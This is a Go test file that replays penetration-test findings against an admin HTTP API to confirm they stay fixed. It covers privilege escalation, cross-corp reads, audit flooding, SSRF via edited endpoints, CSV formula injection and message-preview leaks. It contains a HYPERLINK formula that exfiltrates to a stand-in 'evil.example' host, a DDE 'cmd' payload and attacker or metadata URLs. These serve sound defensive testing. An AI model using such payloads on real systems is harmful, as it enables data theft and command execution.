package httpapi

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"wecomadmin/internal/accounts"
	"wecomadmin/internal/audit"
	"wecomadmin/internal/auth"
	"wecomadmin/internal/search"
	"wecomadmin/internal/secretbox"
	"wecomadmin/internal/status"
	"wecomadmin/internal/store"
)

// The attack suite replays the pen test's findings as an attacker would:
// real HTTP against the real handler stack on a loopback listener, with
// a demo-style account or token and nothing else. Each subtest names the
// finding it keeps closed; the service-level tests beside each fix prove
// the rule in detail.

type attackEnv struct {
	*env
	url string
	c   *http.Client
}

func newAttackEnv(t *testing.T) *attackEnv {
	t.Helper()
	e := newEnv(t, "sqlite", auth.Options{SessionIdle: time.Hour, SessionAbsolute: time.Hour})
	withReview(t, e) // corp wwc1 (c1): e0 in 总部/医学部, e1 in 总部/销售部, their messages
	seedVictim(t, e)
	box, err := secretbox.New(base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef")))
	if err != nil {
		t.Fatal(err)
	}
	acc := &accounts.Service{Store: e.b.Store, Audit: e.rec, SealSecret: box.Seal,
		WeComFor: func(context.Context, string) (accounts.WeCom, error) {
			return nil, errors.New("no WeCom in the attack suite")
		}}
	e.srv = New(Deps{Auth: NewAuthenticator(e.svc, e.rec), AuthSvc: e.svc, Audit: e.rec, Status: status.New(e.b.Store, "test"),
		Search: search.New(e.b.Store, e.rec), Accounts: acc})
	e.h = e.srv.Handler()
	ts := httptest.NewServer(e.h)
	t.Cleanup(ts.Close)
	return &attackEnv{env: e, url: ts.URL, c: ts.Client()}
}

// call sends one request over the loopback connection.
func (a *attackEnv) call(t *testing.T, method, path, body string, hdr map[string]string) (int, string) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, a.url+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := a.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func (a *attackEnv) token(t *testing.T, name string, g auth.Grant) map[string]string {
	t.Helper()
	raw, _, err := a.svc.CreateToken(context.Background(), auth.TokenSpec{Name: name, Role: g.Role, CorpID: g.CorpID, Departments: g.Departments})
	if err != nil {
		t.Fatal(err)
	}
	return map[string]string{"Authorization": "Bearer " + raw}
}

func TestAttackSuite(t *testing.T) {
	a := newAttackEnv(t)
	ctx := context.Background()
	corpAdmin := a.token(t, "corp-admin", auth.Grant{Role: auth.RoleAdmin, CorpID: "wwc1"})

	t.Run("finding 1: a corp admin escalates", func(t *testing.T) {
		for _, c := range []struct{ method, path, body string }{
			{"POST", "/api/v1/admins", `{"username":"evil","password":"` + testPassword + `","roles":[{"role":"admin"}]}`},
			{"POST", "/api/v1/tokens", `{"name":"evil","role":"admin"}`},
			{"POST", "/api/v1/tokens", `{"name":"evil2","role":"auditor","corp_id":"wwvictim"}`},
			{"PUT", "/api/v1/corps", `{"corp_id":"wwvictim","key":"victim","base_url":"https://qyapi.weixin.qq.com"}`},
			{"PUT", "/api/v1/corps/victim/accounts-settings", `{}`},
			{"PUT", "/api/v1/corps/victim/settings", `{"export_approval":false}`},
		} {
			if code, body := a.call(t, c.method, c.path, c.body, corpAdmin); code != 403 && code != 404 {
				t.Errorf("%s %s: %d %s", c.method, c.path, code, body)
			}
		}
		for _, p := range []string{"/api/v1/audit", "/api/v1/admins", "/api/v1/tokens", "/api/v1/status", "/api/v1/corps"} {
			if code, body := a.call(t, "GET", p, "", corpAdmin); strings.Contains(body, "wwvictim") || strings.Contains(body, "victim-marker") {
				t.Errorf("GET %s shows the other corp: %d %.200s", p, code, body)
			}
		}
	})

	t.Run("finding 2: HR runs read across corps", func(t *testing.T) {
		id, err := a.b.Store.CreateSyncRun(ctx, store.SyncRun{CorpID: "wwvictim", Source: "csv", State: "planned", Report: "{}",
			Plan: `{"note":"victim-marker-plan"}`, Records: "[]", CreatedBy: "root"}, nil)
		if err != nil {
			t.Fatal(err)
		}
		hr := a.token(t, "hr-c1", auth.Grant{Role: auth.RoleAccountManager, CorpID: "wwc1"})
		for _, p := range []string{fmt.Sprintf("/api/v1/hr/imports/%d", id)} {
			if code, body := a.call(t, "GET", p, "", hr); code != 404 || strings.Contains(body, "victim-marker") {
				t.Errorf("GET %s: %d %.200s", p, code, body)
			}
		}
		if code, body := a.call(t, "POST", fmt.Sprintf("/api/v1/hr/imports/%d/apply", id), fmt.Sprintf(`{"confirm":%d}`, id), hr); code != 404 {
			t.Errorf("apply another corp's run: %d %s", code, body)
		}
	})

	t.Run("finding 3: unauthenticated audit flooding on /wecom/tfa", func(t *testing.T) {
		ua := strings.Repeat("A", 512<<10)
		for i := 0; i < 60; i++ {
			a.call(t, "GET", "/wecom/tfa?code="+url.QueryEscape(fmt.Sprintf("junk-%d-<x>", i)), "", map[string]string{"User-Agent": ua})
			a.call(t, "GET", fmt.Sprintf("/wecom/tfa?code=plausible%08d", i), "", map[string]string{"User-Agent": ua})
		}
		es, _, err := a.rec.List(ctx, audit.Filter{Action: "tfa.start", Limit: 500})
		if err != nil {
			t.Fatal(err)
		}
		if len(es) > 1 {
			t.Errorf("%d tfa.start rows from one address's junk", len(es))
		}
		for _, e := range es {
			if len(e.UserAgent) > 1024 {
				t.Errorf("a %d-byte User-Agent stored", len(e.UserAgent))
			}
		}
	})

	t.Run("finding 5: secrets sent to an edited endpoint", func(t *testing.T) {
		root := a.token(t, "root", auth.Grant{Role: auth.RoleAdmin})
		body := `{"corp_id":"wwnew","key":"new","base_url":"https://qyapi.weixin.qq.com","secrets":{"contacts":"s3cret"}}`
		if code, out := a.call(t, "POST", "/api/v1/corps", body, root); code != 201 {
			t.Fatalf("create: %d %s", code, out)
		}
		for _, u := range []string{"http://127.0.0.1:9999", "https://attacker.example.com", "https://169.254.169.254"} {
			edit := `{"corp_id":"wwnew","key":"new","base_url":"` + u + `"}`
			if code, out := a.call(t, "PUT", "/api/v1/corps", edit, root); code != 422 {
				t.Errorf("base_url %s: %d %s", u, code, out)
			}
		}
		if code, out := a.call(t, "PUT", "/api/v1/corps/new/archive", `{"source":"sim","url":"http://127.0.0.1:9001"}`, root); code != 422 {
			t.Errorf("sim archive in production: %d %s", code, out)
		}
	})

	t.Run("finding 6: CSV formula injection through a failed sign-in", func(t *testing.T) {
		evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
		a.call(t, "POST", "/api/v1/auth/login", `{"username":"`+strings.ReplaceAll(evil, `"`, `\"`)+`","password":"x","totp":"1"}`,
			map[string]string{"User-Agent": "+cmd|' /C calc'!A0"})
		aud := a.token(t, "aud", auth.Grant{Role: auth.RoleAuditor})
		code, out := a.call(t, "GET", "/api/v1/audit/export.csv", "", aud)
		if code != 200 {
			t.Fatalf("export: %d %s", code, out)
		}
		recs, err := csv.NewReader(bytes.NewReader([]byte(out))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
	})

	t.Run("finding 8: conversation list previews", func(t *testing.T) {
		if err := a.b.Store.TouchConversation(ctx, store.Conversation{CorpID: "wwc1", ConversationID: "e0|wmhcp", Kind: "single",
			Participants: []string{"e0", "wmhcp"}, LastMsgTime: 9, MessageCount: 16}); err != nil {
			t.Fatal(err)
		}
		if _, err := a.b.Store.InsertMessage(ctx, store.Message{CorpID: "wwc1", MsgID: "hidden", Seq: 100, MsgType: "text", From: "e1",
			ToList: `["wmhcp"]`, ConversationID: "e0|wmhcp", MsgTime: 1_800_000_000_000, Content: "SECRET-PREVIEW"}); err != nil {
			t.Fatal(err)
		}
		rev := a.token(t, "rev-med", auth.Grant{Role: auth.RoleReviewer, CorpID: "wwc1", Departments: []string{"总部/医学部"}})
		if code, body := a.call(t, "GET", "/api/v1/conversations?corp=wwc1", "", rev); code != 200 || strings.Contains(body, "SECRET-PREVIEW") {
			t.Errorf("list: %d %.300s", code, body)
		}
		if es, _, _ := a.rec.List(ctx, audit.Filter{Action: audit.ConversationList}); len(es) == 0 {
			t.Error("list read not audited")
		}
	})
}
